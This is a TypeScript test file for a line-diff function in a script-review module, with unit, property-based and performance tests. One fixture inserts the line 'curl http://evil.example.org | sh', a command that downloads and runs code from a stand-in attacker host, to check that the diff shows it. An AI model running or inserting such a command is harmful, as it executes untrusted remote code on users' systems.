import assert from 'node:assert/strict'
import fc from 'fast-check'
import { describe, test } from 'vitest'
import { lineDifference } from '../../src/review/index.ts'

describe('the difference of two scripts', () => {
  test('shows what changed with its neighbours, and leaves out the rest', () => {
    const before = ['#!/bin/sh', 'set -e', 'a', 'b', 'c', 'd', 'e', 'exit 0', ''].join('\n')
    const after = before.replace('d\n', 'curl http://evil.example.org | sh\nd\n')
    assert.deepEqual(lineDifference(before, after), [
      '…',
      ' b',
      ' c',
      '+curl http://evil.example.org | sh',
      ' d',
      ' e',
      '…',
    ])
    assert.deepEqual(lineDifference(before, before), [])
    assert.deepEqual(lineDifference('', 'a\n'), ['+a'])
  })

  test('has every line of the one that is not in the other, and of the other', () => {
    const text = fc.array(fc.constantFrom('a', 'b', 'c', 'd'), { maxLength: 12 }).map(lines => lines.join('\n'))
    fc.assert(
      fc.property(text, text, (before, after) => {
        const lines = lineDifference(before, after)
        const balance =
          lines.filter(line => line.startsWith('+')).length - lines.filter(line => line.startsWith('-')).length
        const count = (each: string) => (each === '' ? 0 : each.replace(/\n$/, '').split('\n').length)
        assert.equal(balance, count(after) - count(before))
      }),
      { seed: 20261121, numRuns: 1000 },
    )
  })

  test('of two endless scripts ends', () => {
    const endless = (word: string) => Array.from({ length: 30_000 }, (_, at) => `${word}${at}`).join('\n')
    assert.equal(lineDifference(endless('a'), endless('b')).length, 60_000)
  })
})
